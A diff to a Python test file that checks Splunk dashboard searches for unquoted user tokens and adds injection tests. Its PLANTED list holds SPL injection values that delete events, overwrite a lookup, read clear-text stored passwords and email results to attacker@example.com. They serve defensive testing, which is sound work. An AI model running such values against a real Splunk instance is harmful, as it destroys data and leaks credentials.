@@ -153,7 +153,7 @@ def stages(spl: str) -> Iterator[tuple[int, bool, str]]:
 
 def search_problems(spl: str, app: dict[str, Any]) -> list[str]:
     problems: list[str] = []
-    expanded = expand_macros(spl, app["macros"], problems)
+    expanded = expand_macros(TOKEN.sub('"token"', spl), app["macros"], problems)  # a filter's `|` splits nothing
     for position, leading_pipe, stage in stages(expanded):
         if not stage:
             problems.append("an empty stage")
@@ -310,3 +310,71 @@ def test_the_checks_catch_what_they_are_for() -> None:
         "dataSources.d.options.query: $missing$",
         "dataSources.d.options.query: $row.a.value$",  # a click token outside a drilldown
     ]
+
+
+# Tokens a search may use as they are: time pickers' earliest and latest go to the search's time range.
+UNFILTERED_OK = (".earliest", ".latest")
+
+
+def unquoted_tokens(definition: dict[str, Any]) -> list[str]:
+    """Every token a search uses that a person typed, picked or clicked and that does not enter SPL through
+    the `|s` filter (which quotes it and escapes its quotes and backslashes)."""
+    problems = []
+    for where, spl in searches(definition):
+        for token in TOKEN.findall(spl):
+            name, _, filters = token.partition("|")
+            if name.endswith(UNFILTERED_OK) or ":" in name:  # a time picker's bound, a data source's own token
+                continue
+            if "s" not in filters.split("|"):
+                problems.append(f"{where}: ${token}$")
+    return problems
+
+
+@pytest.mark.parametrize("path", ALL)
+def test_every_typed_picked_or_clicked_token_enters_spl_through_s(path: Path) -> None:
+    assert unquoted_tokens(definition_of(path)) == []
+
+
+def substitute(spl: str, value: str) -> str:
+    """`spl` as Splunk runs it when every input and click token holds `value` (`|s`: in double quotes, with
+    `\\` and `"` escaped) and time tokens hold a relative time."""
+
+    def one(match: re.Match) -> str:
+        name, _, filters = match.group(1).partition("|")
+        if name.endswith(UNFILTERED_OK):
+            return "-24h"
+        escaped = value.replace("\\", "\\\\").replace('"', '\\"')
+        return f'"{escaped}"' if "s" in filters.split("|") else value
+
+    return TOKEN.sub(one, spl)
+
+
+PLANTED = [
+    '" | delete | search "',
+    'x" OR 1=1 | outputlookup llm_triage_feedback_lookup | search "',
+    "] [| rest /services/storage/passwords | fields clear_password ] [",
+    '\\" | sendemail to=attacker@example.com | search \\"',
+    "`llm_triage_index` | collect index=main",
+]
+
+
+@pytest.mark.parametrize("path", ALL)
+@pytest.mark.parametrize("planted", PLANTED)
+def test_a_planted_value_stays_one_term_of_the_search_it_is_clicked_into(path: Path, planted: str) -> None:
+    # The stored attack: an identifier written to the audit trail or a lookup, clicked by a reviewer.
+    for where, spl in searches(definition_of(path)):
+        benign = [stage.split(" ")[0] for _, _, stage in stages(substitute(spl, "alice"))]
+        attacked = [stage.split(" ")[0] for _, _, stage in stages(substitute(spl, planted))]
+        assert attacked == benign, f"{where}: the planted value changed the pipeline"
+
+
+def test_the_token_checks_catch_an_unquoted_token() -> None:
+    definition = {
+        "dataSources": {
+            "d": {"options": {"query": 'x user=$u$ id=$i|s$ ds=$d:result.n$ t=$t.earliest$ | where a="$q$"'}}
+        },
+        "visualizations": {},
+    }
+    assert unquoted_tokens(definition) == ["dataSources.d: $u$", "dataSources.d: $q$"]
+    spl = definition["dataSources"]["d"]["options"]["query"]
+    assert [stage.split(" ")[0] for _, _, stage in stages(substitute(spl, PLANTED[0]))] != ["x", "where"]
